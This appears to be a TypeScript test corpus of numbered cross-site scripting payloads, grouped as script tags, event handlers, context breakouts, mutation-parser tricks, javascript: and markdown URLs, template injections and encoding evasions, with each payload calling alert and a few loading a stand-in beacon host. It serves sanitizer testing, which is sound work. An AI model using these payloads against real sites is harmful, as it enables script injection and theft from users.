/** Texts that would run something if a page took them for more than text. Each calls alert with its own number. */

type Make = (n: number) => string;

const elements: Make[] = [
	(n) => `<script>alert(${n})</script>`,
	(n) => `<ScRiPt >alert(${n})</ScRiPt >`,
	(n) => `<script\n>alert(${n})</script\n>`,
	(n) => `<script/x>alert(${n})</script>`,
	(n) => `<script>alert(${n})`,
	(n) => `<<script>alert(${n})//<</script>`,
	(n) => `<scr<script>ipt>alert(${n})</scr</script>ipt>`,
	(n) => `<script type=module>alert(${n})</script>`,
	(n) => `<script src="data:text/javascript,alert(${n})"></script>`,
	(n) => `<script src=/beacon?${n}></script>`,
	(n) => `<svg><script>alert(${n})</script></svg>`,
	(n) => `<svg><script href="data:text/javascript,alert(${n})"/></svg>`,
	(n) => `<svg><script>alert&#40;${n}&#41;</script></svg>`,
	(n) =>
		`<math><annotation-xml encoding="text/html"><script>alert(${n})</script></annotation-xml></math>`,
	(n) => `<iframe srcdoc="<script>parent.alert(${n})</script>"></iframe>`,
	(n) => `<iframe src="javascript:parent.alert(${n})"></iframe>`,
	(n) => `<object data="javascript:alert(${n})"></object>`,
	(n) => `<embed src="javascript:alert(${n})">`,
	(n) => `<link rel=stylesheet href="/beacon?${n}">`,
	(n) => `<link rel=modulepreload href="/beacon?${n}">`,
	(n) => `<style>@import "/beacon?${n}";</style>`,
	(n) => `<style>body{background:url(/beacon?${n})}</style>`,
	(n) => `<meta http-equiv=refresh content="0;url=javascript:alert(${n})">`,
	(n) =>
		`<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>alert(${n})</script>`,
	(n) => `<base href="javascript:alert(${n})//">`,
	(n) => `<template shadowrootmode=open><script>alert(${n})</script></template>`,
	(n) => `<isindex type=image src=1 onerror=alert(${n})>`,
	(n) => `<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(${n})</x:script></xml>`
];

const handlers: Make[] = [
	(n) => `<img src=x onerror=alert(${n})>`,
	(n) => `<img src=x onerror="alert(${n})"`,
	(n) => `<img/src=x/onerror=alert(${n})>`,
	(n) => `<img src=x:x onerror=&#97;lert(${n})>`,
	(n) => `<image src=x onerror=alert(${n})>`,
	(n) => `<IMG """><img src=x onerror=alert(${n})>">`,
	(n) => `<svg onload=alert(${n})>`,
	(n) => `<svg/onload=alert(${n})//`,
	(n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`,
	(n) =>
		`<svg><a><animate attributeName=href values="javascript:alert(${n})"/><text y=20>x</text></a></svg>`,
	(n) =>
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(${n})'/></svg>#x"/></svg>`,
	(n) => `<body onload=alert(${n})>`,
	(n) => `<body onpageshow=alert(${n})>`,
	(n) => `<details open ontoggle=alert(${n})>`,
	(n) => `<video><source onerror=alert(${n})></video>`,
	(n) => `<audio src=x onerror=alert(${n})>`,
	(n) => `<input autofocus onfocus=alert(${n})>`,
	(n) => `<select autofocus onfocus=alert(${n})><option>x</select>`,
	(n) => `<a id=x tabindex=1 autofocus onfocus=alert(${n})>x</a>`,
	(n) => `<marquee onstart=alert(${n})>x</marquee>`,
	(n) =>
		`<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=alert(${n})>x</p>`,
	(n) => `<p style="transition:color 1s" ontransitionrun=alert(${n})>x</p>`,
	(n) => `<p oncontentvisibilityautostatechange=alert(${n}) style=content-visibility:auto>x</p>`,
	(n) => `<form onformdata=alert(${n})><button autofocus onfocus=alert(${n})>x</button></form>`,
	(n) =>
		`<button popovertarget=p${n}>x</button><p popover id=p${n} onbeforetoggle=alert(${n})>x</p>`,
	(n) =>
		`<dialog open onclose=alert(${n})><form method=dialog><button autofocus onfocus=alert(${n})>x</button></form></dialog>`
];

const breaks: Make[] = [
	(n) => `"><img src=x onerror=alert(${n})>`,
	(n) => `'><img src=x onerror=alert(${n})>`,
	(n) => `" autofocus onfocus=alert(${n}) x="`,
	(n) => `' autofocus onfocus=alert(${n}) x='`,
	(n) => `x autofocus onfocus=alert(${n})`,
	(n) => `\`autofocus onfocus=alert(${n})\``,
	(n) => `</title><img src=x onerror=alert(${n})>`,
	(n) => `</textarea><img src=x onerror=alert(${n})>`,
	(n) => `</style><img src=x onerror=alert(${n})>`,
	(n) => `</script><img src=x onerror=alert(${n})>`,
	(n) => `</noscript><img src=x onerror=alert(${n})>`,
	(n) => `</option></select><img src=x onerror=alert(${n})>`,
	(n) => `</template><img src=x onerror=alert(${n})>`,
	(n) => `</svg></math><img src=x onerror=alert(${n})>`,
	(n) => `--><img src=x onerror=alert(${n})>`,
	(n) => `--!><img src=x onerror=alert(${n})><!--`,
	(n) => `<!--><img src=x onerror=alert(${n})>-->`,
	(n) => `]]><img src=x onerror=alert(${n})>`,
	(n) => `?><img src=x onerror=alert(${n})>`,
	(n) => `";alert(${n});//`,
	(n) => `'-alert(${n})-'`,
	(n) => `\\";alert(${n});//`,
	(n) => `\\'-alert(${n})//`,
	(n) => `"]});alert(${n});//`,
	(n) => `\u2028alert(${n})\u2029//`
];

const mutations: Make[] = [
	(n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`,
	(n) =>
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(${n})&gt;">`,
	(n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(${n})>`,
	(n) => `<svg></p><style><a id="</style><img src=x onerror=alert(${n})>">`,
	(n) => `<svg><title><style><img title="</style></title><img src=x onerror=alert(${n})>">`,
	(n) => `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(${n}) src=x>">`,
	(n) => `<table><td><math><mtext><table><td><style><!--</style><img src=x onerror=alert(${n})>-->`,
	(n) => `<select><iframe></select><img src=x onerror=alert(${n})>`,
	(n) =>
		`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(${n})>">`,
	(n) => `<xmp><p title="</xmp><img src=x onerror=alert(${n})>"></xmp>`,
	(n) => `<listing>&lt;img src=x onerror=alert(${n})&gt;</listing>`,
	(n) => `<plaintext></plaintext><img src=x onerror=alert(${n})>`,
	(n) => `<p id="<style><!--</style><img src=x onerror=alert(${n})>-->">`,
	(n) => `&lt;img src=x onerror=alert(${n})&gt;`,
	(n) => `&amp;lt;img src=x onerror=alert(${n})&amp;gt;`,
	(n) => `&#60;img src=x onerror=alert(${n})&#62;`,
	(n) => `&#x3c;script&#x3e;alert(${n})&#x3c;/script&#x3e;`
];

const addresses: Make[] = [
	(n) => `javascript:alert(${n})`,
	(n) => `JaVaScRiPt:alert(${n})`,
	(n) => ` \tjavascript:alert(${n})`,
	(n) => `java\tscript:alert(${n})`,
	(n) => `java&#10;script:alert(${n})`,
	(n) => `javascript&colon;alert(${n})`,
	(n) => `\u0001javascript:alert(${n})`,
	(n) => `javascript://example.org/%0aalert(${n})`,
	(n) => `data:text/html,<script>alert(${n})</script>`,
	(n) => `data:text/html;base64,PHNjcmlwdD5hbGVydCg${n})PC9zY3JpcHQ+`,
	(n) => `vbscript:alert(${n})`,
	(n) => `[read this](javascript:alert(${n}))`,
	(n) => `[read this](https://example.org"onmouseover="alert(${n}))`,
	(n) => `![x](x"onerror="alert(${n}))`,
	(n) => `<javascript:alert(${n})>`,
	(n) => `<a href="javascript:alert(${n})">x</a>`,
	(n) => `<a href="https://example.org" ping=/beacon?${n} onclick=alert(${n})>x</a>`,
	(n) => `<form action="javascript:alert(${n})"><button>x</button></form>`,
	(n) => `<button form=x formaction="javascript:alert(${n})">x</button>`,
	(n) => `https://example.org/"onmouseover="alert(${n})`,
	(n) => `https://example.org/'><img src=x onerror=alert(${n})>`,
	(n) => `//beacon.example/${n}<img src=//beacon.example/${n}>`,
	(n) => `P1"onmouseover="alert(${n}) P2'><img src=x onerror=alert(${n})>`,
	(n) => `C-7K2M9Q"><svg onload=alert(${n})>`
];

const templates: Make[] = [
	(n) => `{{constructor.constructor('alert(${n})')()}}`,
	(n) => `\${alert(${n})}`,
	(n) => `#{alert(${n})}`,
	(n) => `<%= alert(${n}) %>`,
	(n) => `{@html "<img src=x onerror=alert(${n})>"}`,
	(n) => `{#if alert(${n})}x{/if}`,
	(n) => `{count, plural, one {<img src=x onerror=alert(${n})>} other {x}}`,
	(n) => `<b>{name}</b> '{'<img src=x onerror=alert(${n})>'}'`,
	(n) => `%sveltekit.body%<img src=x onerror=alert(${n})>`,
	(n) => `%folkmoot.lang%" onload="alert(${n})`,
	(n) => `$&$\`$'$1<img src=x onerror=alert(${n})>`,
	(n) => `<!--[--><img src=x onerror=alert(${n})><!--]-->`,
	(n) => `__proto__[innerHTML]=<img src=x onerror=alert(${n})>`,
	(n) =>
		`<form id=folkmoot><input name=submit><input name=action value="javascript:alert(${n})"></form>`,
	(n) => `<a id=document href="javascript:alert(${n})"></a><img name=cookie>`
];

const characters: Make[] = [
	(n) => `<scr\0ipt>alert(${n})</scr\0ipt>`,
	(n) => `<img src=x o\0nerror=alert(${n})>`,
	(n) => `<scr\u200bipt>alert(${n})</scr\u200bipt>`,
	(n) => `\u202e<script>alert(${n})</script>\u202c`,
	(n) => `\u2067<img src=x onerror=alert(${n})>\u2069`,
	(n) => `\uff1cscript\uff1ealert(${n})\uff1c/script\uff1e`,
	(n) => `\ufe64img src=x onerror=alert(${n})\ufe65`,
	(n) => `\u02bautofocus onfocus=alert(${n}) x=\u02ba`,
	(n) => `+ADw-script+AD4-alert(${n})+ADw-/script+AD4-`,
	(n) => `%3Cscript%3Ealert(${n})%3C/script%3E`,
	(n) => `%253Cscript%253Ealert(${n})%253C%252Fscript%253E`,
	(n) => `\\u003cscript\\u003ealert(${n})\\u003c/script\\u003e`,
	(n) => `\\x3cimg src=x onerror=alert(${n})\\x3e`,
	(n) => `<img src=x onerror=alert(${n})>${'\u0301'.repeat(60)}`,
	(n) => `\ufeff<script>alert(${n})</script>`,
	(n) => `<\u0338script>alert(${n})</script>`,
	(n) => `a\r\nContent-Type: text/html\r\n\r\n<script>alert(${n})</script>`
];

export type Payload = { n: number; text: string };

/** The whole corpus, numbered: what runs tells which text it came from. */
export const payloads: Payload[] = [
	...[elements, handlers, breaks, mutations, addresses, templates, characters]
]
	.flatMap((kind) => kind)
	.map((make, at) => ({ n: at + 1, text: make(at + 1) }));

/** Texts that end inside a tag exactly where a field ends: cut carelessly, the rest of the page is theirs. */
export function atLimit(limit: number): Payload[] {
	const tails = [
		'<img src=x onerror=alert(#)>',
		'<img src=x onerror="alert(#)',
		'<img src=x onerror=alert(#) ',
		'<!--',
		'<textarea>',
		'&lt'
	];
	return tails.map((tail, at) => {
		const n = 100_000 + limit * 10 + at;
		const end = tail.replace('#', String(n));
		return { n, text: 'a'.repeat(Math.max(0, limit - end.length)) + end };
	});
}
